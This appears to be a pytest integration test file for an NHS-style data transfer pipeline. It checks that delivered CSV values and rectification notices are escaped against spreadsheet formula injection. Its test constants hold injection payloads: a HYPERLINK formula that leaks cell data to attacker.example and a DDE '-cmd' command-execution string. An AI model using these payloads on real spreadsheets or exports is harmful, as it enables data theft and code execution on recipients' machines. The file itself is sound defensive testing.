"""Spreadsheet formula injection: what the recipient decrypts (real gpg, from the real sshd) and the
data owner's rectification notice hold no cell a spreadsheet would run, unless the flow switches it off."""

from __future__ import annotations

import csv
import json

import pytest
import yaml

from tests.integration.conftest import LOGICAL_DATE, read_delivery
from transfers.devkit import synthetic
from transfers.pipeline import run_flow

pytestmark = pytest.mark.integration

FLOW_B = "mash-referrals.B"
REMOTE_B = "inbound/ed-attendances"
FORMULA = '=HYPERLINK("http://attacker.example/?"&B2,"open")'
# (source value, as delivered with escaping on)
SENT = [(FORMULA, "'" + FORMULA), ("@SUM(1+1)", "'@SUM(1+1)"), ("+44 1709 000000", "'+44 1709 000000"),
        ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"), ("-3", "-3"), ("ED-000042", "ED-000042")]
HELD_BACK = "=1+2"  # the key of a record quarantined for a bad flag: it appears only in the notice


def setup_flow_b(world, *, formula_escape: bool | None) -> None:
    path = world.settings.config_dir / "agreements" / "mash-referrals.yaml"
    data = yaml.safe_load(path.read_text())
    flow = next(f for f in data["flows"] if f["id"] == "B")
    flow["quality"]["on_failure"]["validity"] = "quarantine"
    if formula_escape is not None:
        flow["csv"] = {"formula_escape": formula_escape}
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    world.reload()
    frame = synthetic.ed_attendances(30, LOGICAL_DATE)
    for i, (value, _escaped) in enumerate(SENT):
        frame.at[i, "attendance_id"] = value
    frame.at[len(SENT), "attendance_id"] = HELD_BACK
    frame.at[len(SENT), "safeguarding_flag"] = "X"  # not Y or N: validity fails, the record is held back
    synthetic.write_ed_csv(world.root / "exports", LOGICAL_DATE, frame)


def manifest(world) -> dict:
    (path,) = (world.remote_root / REMOTE_B).glob("*.manifest.json")
    return json.loads(path.read_text())


def notice_keys(run) -> list[str]:
    with (run.reports_dir / f"rectification_B_{LOGICAL_DATE}.csv").open(newline="", encoding="utf-8") as fh:
        return [row["record_key"] for row in csv.DictReader(fh)]


@pytest.mark.parametrize("formula_escape", [None, True])  # None: the default, the flow says nothing
def test_delivered_values_a_spreadsheet_would_run_are_escaped_numbers_left_alone(world, gpg_partner,
                                                                               formula_escape):
    setup_flow_b(world, formula_escape=formula_escape)
    run = world.run(FLOW_B)

    run_flow(run, world.resolvers())

    (delivered,) = world.delivered(REMOTE_B)
    received = read_delivery(gpg_partner, delivered)
    ids = list(received["attendance_id"])
    assert len(ids) == 29
    for value, escaped in SENT:
        assert escaped in ids, (value, ids[:8])
    assert not any(v.startswith(("=", "+", "@")) or (v.startswith("-") and v != "-3") for v in ids)
    assert all(len(p) == 64 for p in received["nhs_number"])  # pseudonyms (hex) untouched
    assert manifest(world)["formula_escape"] is True
    assert notice_keys(run) == ["'" + HELD_BACK]
    page = (run.reports_dir / f"rectification_B_{LOGICAL_DATE}.html").read_text()
    assert "&#39;=1+2" in page and "apostrophe was added" in page


def test_with_formula_escape_off_the_recipient_gets_the_raw_values_and_the_notice_stays_escaped(world, gpg_partner):
    setup_flow_b(world, formula_escape=False)
    run = world.run(FLOW_B)

    run_flow(run, world.resolvers())

    (delivered,) = world.delivered(REMOTE_B)
    ids = list(read_delivery(gpg_partner, delivered)["attendance_id"])
    for value, _escaped in SENT:
        assert value in ids, (value, ids[:8])
    assert not any(v.startswith("'") for v in ids)
    assert manifest(world)["formula_escape"] is False
    # The notice is for the data owner, who opens it in a spreadsheet: always escaped.
    assert notice_keys(run) == ["'" + HELD_BACK]
